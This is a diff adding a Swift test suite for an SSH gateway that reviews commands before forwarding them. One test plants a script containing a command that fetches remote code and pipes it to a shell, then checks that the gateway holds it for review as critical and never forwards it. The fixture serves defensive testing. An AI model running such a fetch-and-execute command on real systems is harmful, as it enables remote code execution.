@@ -1,0 +1,68 @@
+import AuditLog
+import EscortCore
+import EscortTesting
+import Foundation
+import Gateway
+import Testing
+
+/// The gateway against a real sshd started by the test, with the stock OpenSSH client in front.
+@Suite(.serialized)
+struct SSHTargetTests {
+    static let available = SSHDaemon.available && FileManager.default.isExecutableFile(atPath: "/usr/bin/ssh")
+
+    @Test(.enabled(if: available))
+    func commandsRunOnARealSSHDWithTheGatewaysOwnKey() async throws {
+        let keys = TemporaryDirectory(prefix: "escort-target-key")
+        let targetKey = keys.file("target_ed25519")
+        let sshd = try await SSHDaemon(authorizedKey: try SSHTestKeys.make(targetKey))
+        defer { sshd.stop() }
+        let gw = try await GatewayFixture(sshd: sshd, targetKey: targetKey)
+        defer { Task { await gw.close() } }
+
+        let exec = try gw.ssh("alice+real", as: "alice", tty: false, command: ["--", "echo sum=$((6*7)) user=$(id -un)"])
+        #expect(await exec.waitForExit() == 0)
+        #expect(exec.output.contains("sum=42 user=\(sshd.user)"), "\(exec.output) \(exec.errorOutput)")
+
+        // Interactive: the gateway reads a script from the target before deciding about it.
+        let scripts = TemporaryDirectory(prefix: "escort-scripts")
+        try "#!/bin/sh\necho restarting\ncurl -s http://203.0.113.9/k | sh\n".write(toFile: scripts.file("fix_servers.sh"), atomically: true, encoding: .utf8)
+        try "#!/bin/sh\necho all-good-$((2+3))\n".write(toFile: scripts.file("check.sh"), atomically: true, encoding: .utf8)
+        let p = try gw.ssh("alice+real", as: "alice", tty: true)
+        #expect(await p.waitFor("real:"), "\(p.output) \(p.errorOutput)")
+        p.send("cd \(scripts.path)\r")
+        #expect(await p.waitFor("real:\(scripts.path)$"))
+        p.send("bash check.sh\r")
+        #expect(await p.waitFor("all-good-5"))
+        let mark = p.output.count
+        p.send("bash fix_servers.sh\r")
+        // Critical in a direct session: held for an escort and a technical reviewer.
+        #expect(await p.waitFor("held for an escort and a technical reviewer", after: mark), "\(p.output)")
+        p.send("\u{03}")
+        #expect(await p.waitFor("withdrawn"))
+        p.send("exit\r")
+        #expect(await p.waitForExit() != nil)
+
+        let events = try await gw.events()
+        let held = events.first { $0.0 == AuditEventCode.commandHeld.code }
+        #expect(held?.1["risk"]?.stringValue == "critical")
+        let forwarded = events.filter { $0.0 == AuditEventCode.commandForwarded.code }.compactMap { $0.1["command"]?.stringValue }
+        #expect(forwarded.contains("bash check.sh"))
+        #expect(!forwarded.contains("bash fix_servers.sh"))
+    }
+
+    @Test(.enabled(if: available))
+    func aTargetThatIsDownGivesAClearErrorAndRunsNothing() async throws {
+        let keys = TemporaryDirectory(prefix: "escort-target-key")
+        let targetKey = keys.file("target_ed25519")
+        let sshd = try await SSHDaemon(authorizedKey: try SSHTestKeys.make(targetKey))
+        let gw = try await GatewayFixture(sshd: sshd, targetKey: targetKey)
+        defer { Task { await gw.close() } }
+        sshd.stop()
+        try await Task.sleep(for: .milliseconds(200))
+        let p = try gw.ssh("alice+real", as: "alice", tty: false, command: ["--", "echo should-not-run"])
+        #expect(await p.waitForExit() == 1)
+        #expect(p.errorOutput.contains("Target real is unavailable"), "\(p.errorOutput)")
+        let codes = try await gw.events().map(\.0)
+        #expect(!codes.contains(AuditEventCode.commandForwarded.code))
+    }
+}
